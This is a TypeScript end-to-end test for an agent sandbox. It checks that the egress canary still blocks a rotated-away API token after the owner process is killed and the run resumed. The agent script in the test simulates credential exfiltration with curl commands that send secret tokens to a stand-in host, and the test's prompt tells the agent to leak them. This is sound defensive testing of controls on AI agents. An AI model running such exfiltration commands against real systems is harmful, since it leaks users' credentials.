import { type ChildProcessWithoutNullStreams, spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { renameSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as delay } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { names } from '../../machines/names.js';
import { credTokenPath, EGRESS_HASHES_PATH, secretHash } from '../../machines/specs.js';
import { ensureBuilt, MAIN } from '../support/cli.js';
import { execIn, removeAllLabelled, SUITE_ID } from '../support/docker.js';
import { json, show } from '../support/e2e.js';
import { connectNetwork, startUpstreams, type UpstreamNet } from '../support/egress.js';
import { ensureTestImages } from '../support/images.js';
import { agentName, bottleFolder, cli, identityOf, leftovers, PRELUDE, removeBottleObjects, results, type SecBottle, suiteLabels } from '../support/security.js';

/**
 * Issue 12: what the egress canary must keep knowing survives the owner. A route token is
 * rotated on the host twice (one -> two -> three), the owner is killed with SIGKILL, `bottle
 * resume` takes the run over, and the token is rotated again (three -> four). Token two was
 * rotated away under the dead owner, and nothing on the host holds it any more: only the log
 * does (as a hash). The resumed owner's push of the hashes file must still list it, so the
 * agent sending it to an allowed host over plain HTTP is refused with the token alarm, and the
 * allowed host (a server of this test's own) never sees the request.
 */

const ONE = `sk-rot-${SUITE_ID}-one-0123456789`;
const TWO = `sk-rot-${SUITE_ID}-two-0123456789`;
const THREE = `sk-rot-${SUITE_ID}-three-0123456789`;
const FOUR = `sk-rot-${SUITE_ID}-four-0123456789`;

// The agent stands for one that got hold of a real token (an upstream echoed it, say): the
// test gives it the rotated-away value directly. It waits until the test says go.
const SCRIPT = `${PRELUDE}
echo waiting
while [ ! -e /tmp/go ]; do sleep 0.3; done
code=$(curl -s -o /dev/null -w '%{http_code}' http://allowed.test/control)
result control "$code"
code=$(curl -s -o /dev/null -w '%{http_code}' -H "x-note: ${TWO}" http://allowed.test/rotated-away)
result rotated_away "$code"
code=$(curl -s -o /dev/null -w '%{http_code}' --data "t=${FOUR}" http://allowed.test/current)
result current "$code"
`;

let up: UpstreamNet;
let b: SecBottle;
let identity = '';
let tokenFile = '';
const started: ChildProcessWithoutNullStreams[] = [];

/** The CLI as a child process of this test (so it can be killed by its own pid). */
function start(args: string[]) {
  const child = spawn(process.execPath, [MAIN, ...args], {
    cwd: b.dir,
    env: { PATH: process.env.PATH ?? '', HOME: process.env.HOME ?? '/root', ...b.env },
    stdio: ['pipe', 'pipe', 'pipe'],
  });
  started.push(child);
  let stdout = '';
  let stderr = '';
  child.stdout.on('data', (d: Buffer) => (stdout += d.toString('utf8')));
  child.stderr.on('data', (d: Buffer) => (stderr += d.toString('utf8')));
  const done = new Promise<{ code: number | null; signal: NodeJS.Signals | null; stdout: string; stderr: string }>((res) =>
    child.on('close', (code, signal) => res({ code, signal, stdout, stderr })),
  );
  return { child, done, out: () => stdout, err: () => stderr };
}

async function until<T>(what: string, check: () => Promise<T | undefined | false>, ms = 60_000): Promise<T> {
  const deadline = Date.now() + ms;
  for (;;) {
    const v = await check();
    if (v) return v;
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await delay(250);
  }
}

const rotateTo = (value: string) => {
  writeFileSync(`${tokenFile}.new`, `${value}\n`);
  renameSync(`${tokenFile}.new`, tokenFile);
};
const egressHashes = async () => (await execIn(names(identity).sidecar('egress'), ['cat', EGRESS_HASHES_PATH])).stdout;
const proxyToken = async () => (await execIn(names(identity).sidecar('cred-proxy'), ['cat', credTokenPath(0)])).stdout;
const status = async () => {
  const r = await cli(b, ['status', identity, '--json']);
  return r.code === 0 ? json<{ state: string; owner_alive: boolean; containers: { name: string; role: string | null }[] }>(r) : undefined;
};

let resumed: ReturnType<typeof start>;
let ended: Awaited<ReturnType<typeof start>['done']>;
let hashesAfter = '';

beforeAll(async () => {
  ensureBuilt();
  const images = await ensureTestImages();
  up = await startUpstreams(images.sidecar, [{ name: 'allowed', aliases: ['allowed.test'], ports: ['80'] }]);
  const agent = agentName('canary-resume');
  b = bottleFolder({
    prefix: 'bottle-canary-resume-',
    agent,
    bottle: 'probe',
    config: {
      runtime: 'runc',
      egress: { allow: ['allowed.test'] },
      // The allowed host is this test's own container on a private network: opted in, as a
      // user with an internal service would.
      private_networks: [up.subnet],
      cred_proxy: { routes: [{ path: '/api', upstream: 'https://api.model.test', token: { file: 'api-token' }, inject: { header: 'x-api-key', format: '{token}' } }] },
    },
    prompt: 'leak a rotated token',
    script: SCRIPT,
  });
  tokenFile = join(b.dir, 'api-token');
  writeFileSync(tokenFile, `${ONE}\n`);
  identity = await identityOf(b);

  const first = start(['run', agent, '-f', b.manifest]);
  await until('the agent running', async () => (await status())?.state === 'running');
  await connectNetwork(up.network, names(identity).sidecar('egress'));

  rotateTo(TWO);
  await until('token two in the cred-proxy', async () => (await proxyToken()) === TWO);
  expect(await egressHashes()).toContain(secretHash(TWO));
  rotateTo(THREE);
  await until('token three in the cred-proxy', async () => (await proxyToken()) === THREE);
  expect(await egressHashes()).toContain(secretHash(TWO));

  // The owner dies without a word.
  first.child.kill('SIGKILL');
  expect((await first.done).signal).toBe('SIGKILL');
  await until('the owner gone', async () => (await status())?.owner_alive === false);

  resumed = start(['resume', identity]);
  await until('the resumed owner', async () => {
    const s = await status();
    return s?.owner_alive === true && s.state === 'running';
  });
  rotateTo(FOUR);
  await until('token four in the cred-proxy', async () => (await proxyToken()) === FOUR);
  await until('token four known to the canary', async () => (await egressHashes()).includes(secretHash(FOUR)));
  hashesAfter = await egressHashes();

  const agentContainer = (await status())!.containers.find((c) => c.role === 'agent')!.name;
  await execIn(agentContainer, ['touch', '/tmp/go'], { user: 'agent' });
  ended = await Promise.race([resumed.done, delay(90_000).then(() => ({ code: null, signal: null, stdout: resumed.out(), stderr: `timed out\n${resumed.err()}` }))]);
}, 300_000);

afterAll(async () => {
  for (const c of started) if (c.exitCode === null && c.signalCode === null) c.kill('SIGTERM');
  if (identity) await removeBottleObjects(identity);
  await removeAllLabelled(suiteLabels);
});

describe('the canary after SIGKILL of the owner and bottle resume', () => {
  it('the resumed owner, rotating again, still gives the canary the token rotated away before the crash', () => {
    expect(hashesAfter).toContain(secretHash(TWO));
    expect(hashesAfter).toContain(secretHash(THREE));
    expect(hashesAfter).toContain(secretHash(FOUR));
  });

  it('the agent sending the rotated-away token is refused with 403; the control request passes', async () => {
    expect(ended.code, show(ended)).toBe(0);
    const logs = await cli(b, ['logs', identity]);
    const r = results(logs.stdout);
    expect(r.control, logs.stdout).toBe('200');
    expect(r.rotated_away).toBe('403');
    expect(r.current).toBe('403');
  });

  it('the allowed host saw only the control request', async () => {
    const seen = await up.upstreams.allowed!.output();
    expect(seen).toContain('/control');
    expect(seen).not.toContain('/rotated-away');
    expect(seen).not.toContain('/current');
  });

  it('the audit raises the token alarm with the fingerprint of token two, never a token', async () => {
    const audit = await cli(b, ['audit', identity, '--json']);
    const lines = json<Record<string, unknown>[]>(audit);
    const alarms = lines.filter((e) => e.source === 'egress' && e.alarm === 'token');
    const fp = (t: string) => createHash('sha256').update(t).digest('hex').slice(0, 8);
    expect(alarms.map((a) => a.token_fp).sort()).toEqual([fp(TWO), fp(FOUR)].sort());
    for (const a of alarms) expect(a.decision).toBe('deny');
    // The sidecars' records (the manifest in the engine's holds the test script, tokens and all).
    const text = JSON.stringify(lines.filter((e) => e.source !== 'engine'));
    for (const t of [ONE, TWO, THREE, FOUR]) expect(text).not.toContain(t);
  });

  it('leaves nothing of the bottle', async () => {
    expect(await leftovers(identity)).toEqual([]);
  });
});
